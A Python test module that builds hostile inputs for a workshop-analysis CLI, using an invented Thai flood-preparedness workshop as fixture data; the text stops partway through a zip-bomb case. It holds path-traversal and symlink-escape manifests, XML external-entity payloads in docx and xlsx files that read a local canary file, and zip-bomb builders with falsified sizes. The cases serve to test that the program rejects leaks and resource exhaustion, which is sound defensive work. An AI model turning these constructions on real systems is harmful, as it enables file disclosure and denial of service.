"""Hostile / careless held-out inputs for the `lessons` CLI (black box).

Each case builder is called with a fresh temporary directory ``tmp`` (a
pathlib.Path).  It builds a small, valid-looking Thai workshop in
``tmp / "ws"`` (topic: community flood preparedness and recovery in the lower
South: Nakhon Si Thammarat, Surat Thani, Phatthalung; all names invented), adds
ONE hostile twist and returns a ``Case`` spec:

    argv        arguments after the program path
    out         the output folder the contract checks look at (or None)
    canaries    strings placed OUTSIDE the workshop folder; must never appear in
                any output byte
    must_fail   True if the only acceptable outcome is exit 2 (e.g. traversal,
                duplicate, out-of-range option, limit exceeded)
    allow_ok    True if a correct exit-0 result is acceptable too (default)
    keep_paths  {path: sha256-or-None}: paths that must still exist (with
                unchanged content if a hash is given) after the run
    gone_paths  paths that must not exist after a successful run (stale files)
    pre / post  optional callables: pre(tmp) runs right before the program,
                post(tmp, result) returns a list of failure reasons
    runner      optional callable(bin, tmp, spec, helpers) that replaces the
                plain single run (for concurrency / SIGKILL cases)
    snapshot    folders whose listing+mtimes must be unchanged (system folders)

The harness (run.py) adds the general contract checks: exit 0 or exit 2 with
exactly one ``lessons: error:`` line, no traceback, < 10 s, < 2 GB, no
formula-like cells in any CSV/XLSX output, no canary in any output.
"""
from __future__ import annotations

import csv
import hashlib
import io
import os
import random
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Optional

# --------------------------------------------------------------------------
# spec
# --------------------------------------------------------------------------


@dataclass
class Case:
    argv: list
    out: Optional[str] = None              # output folder to check (None: no output expected)
    canaries: list = field(default_factory=list)
    must_fail: bool = False                # only exit 2 is acceptable
    accept_reason: str = "accepted hostile input"   # FAIL reason if must_fail and exit 0
    error_names: list = field(default_factory=list)  # the error line must contain one of these
    keep_paths: dict = field(default_factory=dict)   # path -> sha256 (or None: must exist)
    gone_paths: list = field(default_factory=list)   # must not exist after exit 0
    env: dict = field(default_factory=dict)
    pre: Optional[Callable] = None
    post: Optional[Callable] = None        # post(ctx, res) -> [reasons]
    runner: Optional[Callable] = None      # runner(ctx) -> [reasons]; replaces the single run
    time_limit: float = 10.0
    strict_sandbox: bool = False           # every mount read-only, /tmp and /root throw-away overlays
    note: str = ""


def sha(path) -> str:
    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


# --------------------------------------------------------------------------
# base workshop content (invented)
# --------------------------------------------------------------------------

TITLE = "การประชุมถอดบทเรียนการเตรียมพร้อมรับมืออุทกภัยระดับชุมชน ภาคใต้ตอนล่าง"
PROVINCES = ["นครศรีธรรมราช", "สุราษฎร์ธานี", "พัทลุง"]

G1 = [
    ("ผู้ดำเนินรายการ", "ขอเชิญกลุ่มที่หนึ่งเล่าประสบการณ์ช่วงน้ำท่วมปลายปีที่ผ่านมาครับ"),
    ("นางสาวพิมพ์ลดา ทองแก้ว", "หมู่บ้านเราได้รับแจ้งเตือนช้ามาก น้ำมาตอนตีสองไม่มีใครรู้ล่วงหน้า"),
    ("นายสมพงษ์ แสงจันทร์", "หอกระจายข่าวใช้ไม่ได้เพราะไฟฟ้าดับตั้งแต่หัวค่ำ"),
    ("ผู้ดำเนินรายการ", "แล้วการอพยพผู้สูงอายุทำอย่างไรบ้างครับ"),
    ("นางสาวพิมพ์ลดา ทองแก้ว", "อาสาสมัครมีเรือแค่สองลำ ต้องขนคนป่วยติดเตียงก่อน"),
    ("นายวีระ ชูช่วย", "ศูนย์พักพิงที่วัดรับคนได้ไม่พอ ห้องน้ำไม่เพียงพอ"),
    ("นายสมพงษ์ แสงจันทร์", "อยากให้ อบต. จัดทำแผนที่จุดเสี่ยงร่วมกับชาวบ้าน"),
    ("ผู้ดำเนินรายการ", "มีปัญหาเรื่องการแจกถุงยังชีพไหมครับ"),
    ("นายวีระ ชูช่วย", "ของบริจาคไปกองที่ถนนใหญ่ หมู่ที่อยู่ลึกเข้าไปไม่ได้รับเลย"),
    ("นางสาวพิมพ์ลดา ทองแก้ว", "ควรมีทะเบียนครัวเรือนกลุ่มเปราะบางที่อัปเดตทุกปี"),
    ("นายสมพงษ์ แสงจันทร์", "ติดต่อเบอร์ 081-234-5678 ของผู้ใหญ่บ้านไม่ได้ทั้งคืน"),
    ("ผู้ดำเนินรายการ", "ขอบคุณครับ สรุปว่าเรื่องการแจ้งเตือนและการอพยพเป็นประเด็นหลัก"),
]

G2 = [
    ("ผู้ดำเนินรายการ", "กลุ่มที่สองเชิญเล่าเรื่องการฟื้นฟูหลังน้ำลดค่ะ"),
    ("นายอนุชา ด้วงทอง", "สวนยางเสียหายหนัก ชาวบ้านไม่มีรายได้เกือบสามเดือน"),
    ("นางจันทร์เพ็ญ หนูนวล", "เงินชดเชยมาช้า เอกสารที่ต้องยื่นเยอะเกินไป"),
    ("ผู้ดำเนินรายการ", "หน่วยงานไหนเข้ามาช่วยเป็นหลักคะ"),
    ("นายอนุชา ด้วงทอง", "อำเภอกับ รพ.สต. เข้ามาเร็ว แต่การประสานงานระหว่างหน่วยงานยังซ้ำซ้อน"),
    ("นางจันทร์เพ็ญ หนูนวล", "เด็กนักเรียนขาดเรียนนานเพราะโรงเรียนถูกใช้เป็นศูนย์พักพิง"),
    ("นายเกียรติศักดิ์ คงแก้ว", "บ่อปลาของกลุ่มวิสาหกิจแตกหมด อยากได้ทุนฟื้นฟูอาชีพ"),
    ("ผู้ดำเนินรายการ", "ด้านสุขภาพจิตมีการดูแลอย่างไรคะ"),
    ("นางจันทร์เพ็ญ หนูนวล", "ผู้สูงอายุเครียดมาก ควรมีทีมเยี่ยมบ้านต่อเนื่อง"),
    ("นายเกียรติศักดิ์ คงแก้ว", "ข้อเสนอคือให้มีกองทุนหมู่บ้านสำหรับภัยพิบัติโดยเฉพาะ"),
    ("นายอนุชา ด้วงทอง", "ต้องซ้อมแผนอพยพทุกปีก่อนหน้ามรสุม"),
    ("ผู้ดำเนินรายการ", "ขอบคุณทุกท่านค่ะ"),
]

FEEDBACK_HEADER = ["จังหวัด", "ปัญหาที่พบ", "ข้อเสนอแนะ"]
FEEDBACK = [
    ("นครศรีธรรมราช", "การแจ้งเตือนล่วงหน้าไม่ทั่วถึง", "ใช้ไลน์กลุ่มหมู่บ้านแจ้งเตือนระดับน้ำ"),
    ("นครศรีธรรมราช", "เรือกู้ภัยมีไม่พอ", "จัดสรรงบซื้อเรือท้องแบนให้ทุกตำบล"),
    ("สุราษฎร์ธานี", "ศูนย์พักพิงแออัด", "สำรวจอาคารสำรองไว้ล่วงหน้า"),
    ("สุราษฎร์ธานี", "ถุงยังชีพกระจายไม่ทั่วถึง", "ทำบัญชีครัวเรือนและจุดแจกของที่ชัดเจน"),
    ("พัทลุง", "ไฟฟ้าดับนานทำให้ติดต่อกันไม่ได้", "ติดตั้งวิทยุสื่อสารสำรองที่ศูนย์"),
    ("พัทลุง", "เงินเยียวยาล่าช้า", "ลดขั้นตอนเอกสารการขอรับเงินช่วยเหลือ"),
    ("นครศรีธรรมราช", "ผู้ป่วยติดเตียงอพยพยาก", "ทำทะเบียนกลุ่มเปราะบางร่วมกับ อสม."),
    ("สุราษฎร์ธานี", "หน่วยงานทำงานซ้ำซ้อน", "ตั้งศูนย์บัญชาการร่วมระดับอำเภอ"),
    ("พัทลุง", "อาชีพเกษตรเสียหาย", "มีกองทุนฟื้นฟูอาชีพหลังน้ำลด"),
    ("นครศรีธรรมราช", "เด็กขาดเรียนนาน", "จัดห้องเรียนชั่วคราวนอกศูนย์พักพิง"),
    ("สุราษฎร์ธานี", "ผู้สูงอายุมีความเครียด", "มีทีมสุขภาพจิตเยี่ยมบ้าน"),
    ("พัทลุง", "ไม่มีการซ้อมแผนอพยพ", "ซ้อมแผนร่วมกับโรงเรียนก่อนมรสุม"),
]

SWOT_HEADER = ["กลุ่ม", "ประเภท", "ข้อความ"]
SWOT = [
    ("1", "จุดแข็ง", "ชาวบ้านช่วยเหลือกันเองอย่างเข้มแข็ง"),
    ("1", "จุดอ่อน", "ระบบแจ้งเตือนพึ่งพาไฟฟ้า"),
    ("1", "โอกาส", "มีงบประมาณจากจังหวัดสำหรับภัยพิบัติ"),
    ("1", "อุปสรรค", "ถนนเข้าหมู่บ้านถูกตัดขาดทุกปี"),
    ("2", "จุดแข็ง", "อสม. รู้จักครัวเรือนเปราะบางทุกหลัง"),
    ("2", "จุดอ่อน", "ขาดอุปกรณ์กู้ภัย"),
    ("2", "โอกาส", "ภาคเอกชนพร้อมสนับสนุนเรือ"),
    ("2", "อุปสรรค", "ระเบียบการเบิกจ่ายเงินยุ่งยาก"),
]

PLAN_HEADER = ["ระยะ", "กิจกรรม"]
PLAN = [
    ("3 เดือน", "จัดทำทะเบียนกลุ่มเปราะบางทุกหมู่บ้าน"),
    ("3 เดือน", "ตั้งไลน์กลุ่มแจ้งเตือนระดับน้ำ"),
    ("6 เดือน", "ซ้อมแผนอพยพร่วมกับโรงเรียน"),
    ("6 เดือน", "จัดหาเรือท้องแบนเพิ่ม"),
    ("1 ปี", "จัดตั้งกองทุนภัยพิบัติหมู่บ้าน"),
    ("1 ปี", "ทำแผนที่จุดเสี่ยงร่วมกับชุมชน"),
]

KEY_ISSUES = {
    1: {"label": "การแจ้งเตือนและการอพยพ"},
    2: {"label": "การฟื้นฟูชีวิตและอาชีพหลังน้ำลด"},
}

# a codebook in the shape the program accepts (found by trial: a mapping of
# theme id -> {label, description, seeds, key_issue})
CODEBOOK_YAML = """\
themes:
  warning:
    label: การแจ้งเตือนภัย
    seeds: [แจ้งเตือน, เตือนภัย, หอกระจายข่าว]
    key_issue: 1
  evacuation:
    label: การอพยพ
    seeds: [อพยพ, เรือ, ศูนย์พักพิง]
    key_issue: 1
  relief:
    label: การเยียวยา
    seeds: [เงินชดเชย, เยียวยา, ถุงยังชีพ]
    key_issue: 2
"""


def transcript_text(lines) -> str:
    return "".join(f"{s}: {t}\n" for s, t in lines)


def write_csv(path: Path, header, rows, encoding="utf-8"):
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(header)
    for r in rows:
        w.writerow(r)
    path.write_bytes(buf.getvalue().encode(encoding))


def write_xlsx(path: Path, header, rows, sheet="Sheet1"):
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = sheet
    ws.append(list(header))
    for r in rows:
        ws.append(list(r))
    wb.save(path)


def write_docx(path: Path, lines):
    import docx

    d = docx.Document()
    for s, t in lines:
        d.add_paragraph(f"{s}: {t}")
    d.save(path)


def yaml_dump(obj) -> str:
    import yaml

    return yaml.safe_dump(obj, allow_unicode=True, sort_keys=False)


def feedback_entry(path="feedback.xlsx", **extra):
    e = {
        "path": path,
        "kind": "feedback",
        "columns": {"จังหวัด": "province", "ปัญหาที่พบ": "text", "ข้อเสนอแนะ": "text:suggestion"},
    }
    e.update(extra)
    return e


def base_files():
    return [
        {"path": "transcripts/g1.txt", "kind": "transcript", "group": 1},
        {"path": "transcripts/g2.docx", "kind": "transcript", "group": 2},
        feedback_entry(),
        {"path": "swot.csv", "kind": "swot",
         "columns": {"กลุ่ม": "group", "ประเภท": "quadrant", "ข้อความ": "text"}},
        {"path": "plan.csv", "kind": "action_plan", "columns": {"ระยะ": "horizon", "กิจกรรม": "text"}},
    ]


def base_manifest(files=None, codebook=False):
    m = {
        "title": TITLE,
        "date": "2566-11-28",
        "provinces": list(PROVINCES),
        "key_issues": KEY_ISSUES,
    }
    if codebook:
        m["codebook"] = "codebook.yml"
    m["files"] = base_files() if files is None else files
    return m


def build_base(tmp: Path, files=None, manifest=None, codebook=False, manifest_text=None) -> Path:
    """Write the valid base workshop into tmp/ws; return the workshop.yml path."""
    ws = tmp / "ws"
    (ws / "transcripts").mkdir(parents=True, exist_ok=True)
    (ws / "transcripts" / "g1.txt").write_text(transcript_text(G1), encoding="utf-8")
    write_docx(ws / "transcripts" / "g2.docx", G2)
    write_xlsx(ws / "feedback.xlsx", FEEDBACK_HEADER, FEEDBACK)
    write_csv(ws / "feedback.csv", FEEDBACK_HEADER, FEEDBACK)
    write_csv(ws / "swot.csv", SWOT_HEADER, SWOT)
    write_csv(ws / "plan.csv", PLAN_HEADER, PLAN)
    (ws / "codebook.yml").write_text(CODEBOOK_YAML, encoding="utf-8")
    wy = ws / "workshop.yml"
    if manifest_text is not None:
        wy.write_text(manifest_text, encoding="utf-8")
    else:
        if manifest is None:
            manifest = base_manifest(files, codebook)
        wy.write_text(yaml_dump(manifest), encoding="utf-8")
    return wy


def run_args(tmp: Path, wy=None, out=None, extra=(), themes=False):
    """argv for `lessons run`; themes off by default to keep cases fast."""
    wy = wy or (tmp / "ws" / "workshop.yml")
    out = str(out or (tmp / "out"))
    argv = ["run", str(wy), "--out", out, "--seed", "7", "--quiet"]
    if not themes:
        argv.append("--no-themes")
    return argv + list(extra), out


def ws_hashes(tmp: Path, sub="ws") -> dict:
    """sha256 of every regular file under tmp/sub (for keep_paths)."""
    res = {}
    root = tmp / sub
    for p in root.rglob("*"):
        if p.is_file() and not p.is_symlink():
            res[str(p)] = sha(p)
    return res


THAI_LETTERS = "กขคฆงจฉชซญฎฐฑฒณดตถทธนบปผฝพฟภมยรลวศษสหฬอฮ"


def canary(tmp: Path, name="secret.txt", kind="txt"):
    """A file OUTSIDE the workshop folder (tmp/outside/NAME) holding unique
    canary strings (an ASCII tag and a Thai tag); returns (path, [tags])."""
    rnd = random.Random(os.urandom(8))
    tag = "CANARY" + "".join(rnd.choice("ABCDEFGHJKLMNPQRSTUVWXYZ23456789") for _ in range(12))
    thai = "ลับเฉพาะ" + "".join(rnd.choice(THAI_LETTERS) for _ in range(10))
    p = tmp / "outside" / name
    p.parent.mkdir(parents=True, exist_ok=True)
    if kind == "txt":
        p.write_text(
            "".join(f"ผู้ดำเนินรายการ: ข้อมูล{thai} รหัส {tag} ห้ามเผยแพร่ครั้งที่ {i}\n" for i in range(12)),
            encoding="utf-8")
    elif kind == "csv":
        write_csv(p, FEEDBACK_HEADER, [(PROVINCES[i % 3], f"ปัญหา{thai} {tag}", f"ข้อเสนอ{thai}") for i in range(12)])
    elif kind == "codebook":
        p.write_text(
            "themes:\n"
            f"  {tag.lower()}:\n    label: {thai}\n    description: {tag}\n"
            f"    seeds: [{thai}, น้ำท่วม, เรือ]\n    key_issue: 1\n",
            encoding="utf-8")
    return p, [tag, thai]


# --------------------------------------------------------------------------
# zip writing (fast bombs: one compressed block repeated)
# --------------------------------------------------------------------------


class RepeatMember:
    """head + chunk*repeat + tail, deflated without materialising it."""

    def __init__(self, head: bytes, chunk: bytes, repeat: int, tail: bytes):
        self.head, self.chunk, self.repeat, self.tail = head, chunk, repeat, tail

    def size(self):
        return len(self.head) + len(self.chunk) * self.repeat + len(self.tail)

    def crc(self):
        c = zlib.crc32(self.head)
        for _ in range(self.repeat):
            c = zlib.crc32(self.chunk, c)
        return zlib.crc32(self.tail, c) & 0xFFFFFFFF

    def compressed(self):
        def full(data):
            co = zlib.compressobj(9, zlib.DEFLATED, -15)
            return co.compress(data) + co.flush(zlib.Z_FULL_FLUSH)
        h = full(self.head)
        block = full(self.chunk)
        co = zlib.compressobj(9, zlib.DEFLATED, -15)
        t = co.compress(self.tail) + co.flush(zlib.Z_FINISH)
        return h + block * self.repeat + t


def write_zip(path: Path, members, declared_sizes=None):
    """members: list of (name, bytes | RepeatMember).  Plain deflate, no zip64
    (every member must stay below 4 GiB).  declared_sizes: {name: size} to lie
    about the uncompressed size in both headers."""
    declared_sizes = declared_sizes or {}
    out = io.BytesIO()
    central = []
    for name, data in members:
        nb = name.encode("utf-8")
        if isinstance(data, RepeatMember):
            comp, crc, usize = data.compressed(), data.crc(), data.size()
        else:
            co = zlib.compressobj(6, zlib.DEFLATED, -15)
            comp = co.compress(data) + co.flush()
            crc, usize = zlib.crc32(data) & 0xFFFFFFFF, len(data)
        usize = declared_sizes.get(name, usize)
        off = out.tell()
        flags = 0x800  # utf-8 names
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 8, 0, 0x5721,
                              crc, len(comp), usize, len(nb), 0))
        out.write(nb)
        out.write(comp)
        central.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 8, 0, 0x5721,
                                   crc, len(comp), usize, len(nb), 0, 0, 0, 0, 0, off) + nb)
    cd_off = out.tell()
    for c in central:
        out.write(c)
    cd_size = out.tell() - cd_off
    n = len(central)
    if n > 0xFFFF:  # zip64 end records for many entries
        z64_off = out.tell()
        out.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, n, n, cd_size, cd_off))
        out.write(struct.pack("<IIQI", 0x07064B50, 0, z64_off, 1))
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, cd_size, cd_off, 0))
    else:
        out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, cd_size, cd_off, 0))
    path.write_bytes(out.getvalue())


def zip_members(path: Path):
    with zipfile.ZipFile(path) as z:
        return [(i.filename, z.read(i.filename)) for i in z.infolist()]


XLSX_CT = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
           b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
           b'<Default Extension="xml" ContentType="application/xml"/>'
           b'<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
           b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
           b'</Types>')
XLSX_RELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
             b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
             b'</Relationships>')
XLSX_WB = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
           b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
           b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
           b'<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
XLSX_WBRELS = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
               b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
               b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
               b'</Relationships>')
SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{prolog}'
              '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">{dim}<sheetData>')
SHEET_TAIL = "</sheetData></worksheet>"


def col_letter(j):
    s = ""
    j += 1
    while j:
        j, r = divmod(j - 1, 26)
        s = chr(65 + r) + s
    return s


def xml_row(r, values, raw=False):
    cells = []
    for j, v in enumerate(values):
        esc = str(v) if raw else str(v).replace("&", "&amp;").replace("<", "&lt;")
        cells.append(f'<c r="{col_letter(j)}{r}" t="inlineStr"><is><t xml:space="preserve">{esc}</t></is></c>')
    return f'<row r="{r}">{"".join(cells)}</row>'


def xlsx_parts(sheet_xml, extra=()):
    return [("[Content_Types].xml", XLSX_CT), ("_rels/.rels", XLSX_RELS), ("xl/workbook.xml", XLSX_WB),
            ("xl/_rels/workbook.xml.rels", XLSX_WBRELS), ("xl/worksheets/sheet1.xml", sheet_xml), *extra]


def hand_xlsx(path: Path, header, rows, dim="", prolog="", tail_rows="", raw_cells=False, extra=()):
    body = xml_row(1, header) + "".join(xml_row(i + 2, r, raw=raw_cells) for i, r in enumerate(rows))
    sheet = (SHEET_HEAD.format(prolog=prolog, dim=dim) + body + tail_rows + SHEET_TAIL).encode("utf-8")
    write_zip(path, xlsx_parts(sheet, extra))


def docx_with_document_xml(path: Path, document_xml):
    """Real python-docx package with word/document.xml replaced."""
    seed = path.with_name(path.stem + ".seed.docx")
    write_docx(seed, G2[:2])
    members = [(n, d) for n, d in zip_members(seed) if n != "word/document.xml"]
    seed.unlink()
    members.append(("word/document.xml", document_xml))
    write_zip(path, members)


W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def w_par(text):
    return f"<w:p><w:r><w:t xml:space=\"preserve\">{text}</w:t></w:r></w:p>"


def png_bytes(w=96, h=96):
    rnd = random.Random(5)
    raw = b"".join(b"\x00" + bytes(rnd.getrandbits(8) for _ in range(w * 3)) for _ in range(h))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def pdf_bytes():
    rnd = random.Random(9)
    stream = zlib.compress(bytes(rnd.getrandbits(8) for _ in range(30000)))
    return (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
            b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
            b"3 0 obj<</Type/Page/Parent 2 0 R/Contents 4 0 R>>endobj\n"
            + b"4 0 obj<</Length %d/Filter/FlateDecode>>stream\n" % len(stream) + stream
            + b"\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")


def yaml_bomb(levels=9, width=9, leaf="น้ำท่วม"):
    lines = [f'l0: &l0 ["{leaf}"' + f', "{leaf}"' * (width - 1) + "]"]
    for i in range(1, levels):
        lines.append(f"l{i}: &l{i} [" + ", ".join([f"*l{i - 1}"] * width) + "]")
    return "\n".join(lines) + "\n", f"*l{levels - 1}"


def manifest_yaml_with(tmp: Path, replace: dict, prefix="", files=None):
    """Base manifest text with some top-level keys replaced by raw YAML text."""
    m = base_manifest(files)
    parts = [prefix]
    for k, v in m.items():
        if k in replace:
            parts.append(f"{k}: {replace[k]}\n")
        else:
            parts.append(yaml_dump({k: v}))
    return "".join(parts)


# --------------------------------------------------------------------------
# checks used by several cases
# --------------------------------------------------------------------------


def output_texts(out) -> str:
    """All text of all CSV and parquet outputs, joined (for content checks)."""
    import pandas as pd
    parts = []
    for p in Path(out).rglob("*"):
        try:
            if p.suffix == ".csv":
                parts.append(p.read_text(encoding="utf-8-sig", errors="replace"))
            elif p.suffix == ".parquet":
                d = pd.read_parquet(p)
                parts.append(d.astype(str).to_csv())
        except Exception as e:  # noqa
            parts.append(f"<unreadable {p.name}: {e}>")
    return "\n".join(parts)


def expect_text(*phrases, label="decoded text"):
    """post-check: if the run succeeded, the phrases must appear in the
    outputs (i.e. the file was decoded correctly, not accepted as mojibake)."""
    def post(ctx, res):
        if res.rc != 0 or not res.out or not Path(res.out).exists():
            return []
        txt = output_texts(res.out)
        missing = [p for p in phrases if p not in txt]
        if missing:
            return [f"exit 0 but {label} missing (mojibake accepted?)"]
        return []
    return post


# --------------------------------------------------------------------------
# registry
# --------------------------------------------------------------------------

CASES = []  # (case_id, class, builder)


def case(cls, cid):
    def deco(fn):
        CASES.append((cid, cls, fn))
        return fn
    return deco


def with_extra_file(entry):
    return base_files() + [entry]


# ==========================================================================
# 0. control: the valid base workshop, with themes (shows the load-dependent
#    baseline time on this machine; not hostile)
# ==========================================================================

@case("control", "ctl_valid_workshop_themes")
def _(tmp):
    build_base(tmp, codebook=True)
    argv, out = run_args(tmp, themes=True)
    return Case(argv, out, note="not hostile: the valid base workshop with codebook and themes")


@case("control", "ctl_valid_workshop_no_themes")
def _(tmp):
    build_base(tmp)
    argv, out = run_args(tmp)
    return Case(argv, out, note="not hostile: the valid base workshop, --no-themes (the default for run cases)")


# ==========================================================================
# 1. traversal / outside reads
# ==========================================================================

@case("traversal", "trav_dotdot_transcript")
def _(tmp):
    p, tags = canary(tmp, "secret.txt")
    build_base(tmp, files=with_extra_file({"path": "../outside/secret.txt", "kind": "transcript", "group": 2}))
    argv, out = run_args(tmp)
    return Case(argv, out, canaries=tags, must_fail=True, accept_reason="accepted outside path",
                error_names=["secret.txt", "outside"])


@case("traversal", "trav_absolute_feedback_csv")
def _(tmp):
    p, tags = canary(tmp, "fb_2565.csv", kind="csv")
    build_base(tmp, files=with_extra_file(feedback_entry(path=str(p))))
    argv, out = run_args(tmp)
    return Case(argv, out, canaries=tags, must_fail=True, accept_reason="accepted outside path",
                error_names=["fb_2565.csv", str(p)])


@case("traversal", "trav_symlink_file_to_outside")
def _(tmp):
    p, tags = canary(tmp, "secret.txt")
    build_base(tmp, files=with_extra_file({"path": "transcripts/g3.txt", "kind": "transcript", "group": 2}))
    os.symlink(p, tmp / "ws" / "transcripts" / "g3.txt")
    argv, out = run_args(tmp)
    return Case(argv, out, canaries=tags, must_fail=True, accept_reason="accepted symlink leaving folder",
                error_names=["g3.txt"])


@case("traversal", "trav_symlinked_dir_inside")
def _(tmp):
    p, tags = canary(tmp, "minutes.txt")
    build_base(tmp, files=with_extra_file({"path": "shared/minutes.txt", "kind": "transcript", "group": 1}))
    os.symlink(tmp / "outside", tmp / "ws" / "shared", target_is_directory=True)
    argv, out = run_args(tmp)
    return Case(argv, out, canaries=tags, must_fail=True, accept_reason="accepted symlinked dir leaving folder",
                error_names=["shared", "minutes.txt"])


@case("traversal", "trav_symlink_chain_relative")
def _(tmp):
    p, tags = canary(tmp, "secret.txt")
    build_base(tmp, files=with_extra_file({"path": "notes.txt", "kind": "transcript", "group": 1}))
    links = tmp / "ws" / "links"
    links.mkdir()
    os.symlink("../../outside/secret.txt", links / "c.txt")
    os.symlink("c.txt", links / "b.txt")
    os.symlink("links/b.txt", tmp / "ws" / "notes.txt")
    argv, out = run_args(tmp)
    return Case(argv, out, canaries=tags, must_fail=True, accept_reason="accepted symlink chain leaving folder",
                error_names=["notes.txt"])


@case("traversal", "trav_hidden_dotdot_in_subpath")
def _(tmp):
    p, tags = canary(tmp, "secret.txt")
    build_base(tmp, files=with_extra_file(
        {"path": "./transcripts/../../outside/secret.txt", "kind": "transcript", "group": 2}))
    argv, out = run_args(tmp)
    return Case(argv, out, canaries=tags, must_fail=True, accept_reason="accepted outside path",
                error_names=["secret.txt"])


@case("traversal", "trav_windows_backslash")
def _(tmp):
    p, tags = canary(tmp, "secret.txt")
    build_base(tmp, files=with_extra_file({"path": "..\\outside\\secret.txt", "kind": "transcript", "group": 2}))
    argv, out = run_args(tmp)
    return Case(argv, out, canaries=tags, must_fail=True, accept_reason="accepted outside path",
                error_names=["secret.txt"],
                note="on Linux the literal name does not exist, so any clean exit 2 passes; "
                     "fails only if the program normalises \\ and reads outside")


@case("traversal", "trav_codebook_dotdot")
def _(tmp):
    p, tags = canary(tmp, "codebook.yml", kind="codebook")
    m = base_manifest()
    m["codebook"] = "../outside/codebook.yml"
    build_base(tmp, manifest=m)
    argv, out = run_args(tmp, themes=True)
    return Case(argv, out, canaries=tags, must_fail=True, accept_reason="accepted outside codebook",
                error_names=["codebook"])


@case("traversal", "trav_codebook_symlink_outside")
def _(tmp):
    p, tags = canary(tmp, "shared_codebook.yml", kind="codebook")
    build_base(tmp, codebook=True)
    (tmp / "ws" / "codebook.yml").unlink()
    os.symlink(p, tmp / "ws" / "codebook.yml")
    argv, out = run_args(tmp, themes=True)
    return Case(argv, out, canaries=tags, must_fail=True, accept_reason="accepted symlinked codebook",
                error_names=["codebook"])


@case("traversal", "trav_tilde_home")
def _(tmp):
    p, tags = canary(tmp, "secret.txt")
    build_base(tmp, files=with_extra_file({"path": "~/secret.txt", "kind": "transcript", "group": 2}))
    argv, out = run_args(tmp)
    return Case(argv, out, canaries=tags, must_fail=True, accept_reason="accepted ~ path",
                env={"HOME": str(tmp / "outside")}, error_names=["secret.txt", "~"],
                note="HOME points at the outside folder; reading it means ~ was expanded")


@case("traversal", "trav_docx_xxe_entity")
def _(tmp):
    p, tags = canary(tmp, "secret.txt")
    build_base(tmp)
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="no"?>'
           f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file://{p}">]>'
           f'<w:document {W_NS}><w:body>'
           + "".join(w_par(f"{s}: {t}") for s, t in G2[:6])
           + w_par("ผู้ดำเนินรายการ: &xxe;")
           + "".join(w_par(f"{s}: {t}") for s, t in G2[6:])
           + "</w:body></w:document>").encode("utf-8")
    docx_with_document_xml(tmp / "ws" / "transcripts" / "g2.docx", doc)
    argv, out = run_args(tmp)
    return Case(argv, out, canaries=tags, note="external XML entity in word/document.xml")


@case("traversal", "trav_xlsx_xxe_entity")
def _(tmp):
    p, tags = canary(tmp, "secret.txt")
    build_base(tmp)
    rows = [list(r) for r in FEEDBACK]
    rows[3][1] = "&xxe;"
    rows = [[c if c == "&xxe;" else c.replace("&", "&amp;") for c in r] for r in rows]
    hand_xlsx(tmp / "ws" / "feedback.xlsx", FEEDBACK_HEADER, rows, raw_cells=True,
              prolog=f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{p}">]>')
    argv, out = run_args(tmp)
    return Case(argv, out, canaries=tags, note="external XML entity in xl/worksheets/sheet1.xml")


# ==========================================================================
# 2. resource bombs
# ==========================================================================

@case("bombs", "bomb_docx_inflates_1gb")
def _(tmp):
    build_base(tmp)
    seed = tmp / "seed.docx"
    write_docx(seed, G2[:2])
    members = [(n, d) for n, d in zip_members(seed) if n != "word/document.xml"]
    seed.unlink()
    para = w_par("นายอนุชา ด้วงทอง: น้ำท่วมหนักมาก ถนนขาดหลายสาย").encode()
    chunk = para * (1_000_000 // len(para))
